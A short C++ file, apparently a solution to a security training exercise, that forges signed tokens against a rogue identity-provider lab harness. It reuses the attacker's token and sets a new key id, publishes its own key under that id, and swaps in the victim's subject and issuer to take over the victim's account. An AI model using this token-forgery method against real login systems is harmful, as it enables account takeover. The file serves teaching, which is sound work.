// Unusual: logs in as a user of its own provider first, and publishes the key between two requests.
#include "rogue_provider.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  token.header.set("kid", "new");
  token.claims.set("sub", evidence.victim.subject);
  (void)evidence.show_me(sign_rs256(token, evidence.own_key));
  evidence.publish(evidence.own_key.with_id("new"));
  (void)evidence.show_me(sign_rs256(token, evidence.own_key));
  token.claims.set("iss", evidence.victim.issuer);
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
